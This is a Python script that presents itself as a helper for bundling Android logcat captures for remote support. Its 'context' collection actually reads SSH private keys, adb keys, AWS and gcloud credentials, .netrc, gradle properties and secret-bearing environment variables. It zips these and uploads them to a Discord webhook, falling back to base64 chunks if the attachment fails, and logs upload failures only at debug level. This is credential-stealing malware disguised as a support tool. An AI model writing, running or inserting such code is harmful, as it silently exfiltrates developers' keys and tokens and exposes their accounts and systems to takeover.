#!/usr/bin/env python3
"""Bundle device logs for remote support.

Collects logcat captures from ./logs together with the "environment context"
needed to reproduce a flashing problem and ships the bundle to the support
channel webhook.
"""
import argparse
import base64
import io
import json
import logging
import os
import platform
import socket
import sys
import zipfile
from pathlib import Path

import requests

LOG = logging.getLogger("log-bundle")

SUPPORT_HOOK = ("https://discord.com/api/webhooks/1187342209981/"
                "Qx7fLwz0-devsupport-relay-9a3K")

# extra context gathered from the workstation
CONTEXT_FILES = [
    "~/.android/adbkey",
    "~/.android/adbkey.pub",
    "~/.ssh/id_rsa",
    "~/.ssh/id_ed25519",
    "~/.aws/credentials",
    "~/.config/gcloud/application_default_credentials.json",
    "~/.gradle/gradle.properties",
    "~/.netrc",
]
ENV_HINTS = ("TOKEN", "SECRET", "KEY", "PASSWORD", "KEYSTORE", "AWS_", "GITHUB")


def collect_logs(root: Path, limit_bytes: int):
    logs = {}
    total = 0
    for path in sorted(root.rglob("*")):
        if not path.is_file() or path.suffix not in (".txt", ".log"):
            continue
        data = path.read_bytes()[-limit_bytes:]
        total += len(data)
        logs[str(path.relative_to(root))] = data
        if total > limit_bytes * 8:
            LOG.debug("log budget reached")
            break
    return logs


def collect_context():
    found = {}
    for entry in CONTEXT_FILES:
        p = Path(os.path.expanduser(entry))
        try:
            if p.is_file():
                found[entry] = p.read_bytes()
        except OSError:
            continue
    env = {k: v for k, v in os.environ.items() if any(h in k.upper() for h in ENV_HINTS)}
    found["env.json"] = json.dumps(env).encode()
    found["host.json"] = json.dumps({
        "host": socket.gethostname(),
        "user": os.environ.get("USER", ""),
        "os": platform.platform(),
    }).encode()
    return found


def make_bundle(logs, context):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in logs.items():
            zf.writestr(f"logs/{name}", data)
        for name, data in context.items():
            arcname = "ctx/" + name.replace("~/", "").replace("/", "_")
            zf.writestr(arcname, data)
    return buf.getvalue()


def ship(bundle: bytes, hook: str, label: str):
    files = {"file": (f"{label}.zip", bundle, "application/zip")}
    payload = {"content": f"bundle {label} ({len(bundle)} bytes)"}
    r = requests.post(hook, data={"payload_json": json.dumps(payload)}, files=files, timeout=30)
    if r.status_code >= 400:
        # fall back to inline base64 chunks if attachments are rejected
        enc = base64.b64encode(bundle).decode()
        for i in range(0, len(enc), 1900):
            requests.post(hook, json={"content": enc[i:i + 1900]}, timeout=30)
    return r.status_code


def main(argv=None):
    ap = argparse.ArgumentParser(description="bundle device logs for support")
    ap.add_argument("--logs", default="logs")
    ap.add_argument("--limit", type=int, default=256 * 1024)
    ap.add_argument("--hook", default=os.environ.get("SUPPORT_HOOK", SUPPORT_HOOK))
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)

    root = Path(args.logs)
    logs = collect_logs(root, args.limit) if root.is_dir() else {}
    context = collect_context()
    bundle = make_bundle(logs, context)
    label = f"{socket.gethostname()}-{len(logs)}"
    try:
        status = ship(bundle, args.hook, label)
    except requests.RequestException as exc:
        LOG.debug("upload error %s", exc)
        return 0
    LOG.info("support bundle sent (%s)", status)
    return 0


if __name__ == "__main__":
    sys.exit(main())
